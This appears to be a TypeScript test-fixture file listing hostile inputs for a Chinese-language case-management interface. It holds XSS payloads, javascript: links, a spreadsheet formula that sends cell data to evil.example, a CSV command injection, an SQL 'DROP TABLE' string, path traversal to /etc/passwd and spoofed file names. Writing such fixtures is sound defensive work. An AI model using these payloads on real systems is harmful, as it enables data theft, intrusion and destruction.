/** What somebody types, or sends, who means harm or just pastes: each by what it is. A script in them sets `hostile`. */
export const hostileTexts: readonly (readonly [what: string, text: string])[] = [
  ['a script', '<script>window.hostile = 1</script>'],
  ['an image that fails', '<img src=x onerror="window.hostile = 1">'],
  ['a drawing that loads', '"><svg/onload=window.hostile=1>'],
  ['a frame', '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>'],
  ['a style', '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>'],
  ['an address that is a script', 'javascript:window.hostile=1//'],
  ['a link that is a script', '[看这里](javascript:window.hostile=1) <a href="javascript:window.hostile=1">合同</a>'],
  ['a foreign image', '![图](https://evil.example/a.png) <img src="https://evil.example/pixel.gif">'],
  ['a template', `{{constructor.constructor("window.hostile=1")()}} $\{window.hostile=1}`],
  ['text from right to left', '合同\u202efdp.exe\u2066左\u2069'],
  ['letters without width', '林\u200b知\u200d远\u2060\ufeff'],
  ['a very long word', 'Donaudampfschifffahrtsgesellschaft'.repeat(60)],
  ['a very long number', '9'.repeat(400)],
  ['ten thousand faces', '😀'.repeat(10_000)],
  ['a family joined', '👩‍👩‍👧‍👦'.repeat(200)],
  ['marks upon marks', `Z${'\u0300\u0337\u0489'.repeat(300)}`],
  ['a letter that ends texts', '前\u0000后'],
  ['half a letter', '半\ud800字\udc00'],
  ['control signs', '甲\u0007\u001b[31m乙\u0085丙'],
  ['many lines', '一\r\n二\n\n\n三\u2028四\u2029五'],
  ['a formula', '=HYPERLINK("https://evil.example?"&A1,"合同")'],
  ['a command in a cell', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['SQL', "'); DROP TABLE customer; --"],
  ['names of prototypes', '__proto__ constructor toString'],
  ['a folder above', '..\\..\\../../etc/passwd'],
  ['a device', 'nul .txt'],
]

/** Names of files that lead elsewhere, are devices, or look like other types. */
export const hostileNames: readonly string[] = [
  '../../../../etc/passwd',
  'C:\\Windows\\System32\\drivers\\etc\\hosts',
  'CON.txt',
  'nul .txt',
  '合同\u202efdp.exe',
  'a\u0000.pdf',
  '<img src=x onerror=window.hostile=1>.png',
  `${'长'.repeat(400)}.docx`,
]

/** Values of custom fields that are not what their definition says. */
export const hostileValues: Readonly<Record<string, unknown>> = {
  claimAmount: 1e308,
  satisfaction: '9'.repeat(300),
  caseStage: { toString: 'x' },
  serviceKinds: '[{"value":1,',
  riskKinds: Array.from({ length: 500 }, (_, place) => `<b>${place}</b>`),
  birthday: '9999999-99-99',
  nextMeeting: -1e300,
  witnessPhones: '[{"phone":"<script>window.hostile=1</script>"',
  familyPhone: `javascript:window.hostile=1${'8'.repeat(200)}`,
  evidenceFiles: JSON.stringify(hostileNames.map((name) => ({ id: name, name, fsid: name, fileSize: -1 }))),
  idPhoto: [{ id: 'x', name: '<img src=x onerror=window.hostile=1>', fsid: '../../x', fileSize: 1e308 }],
  weMediaAccount: { avatar: 'javascript:window.hostile=1', aliasName: '<b>甲</b>', nickname: null },
}
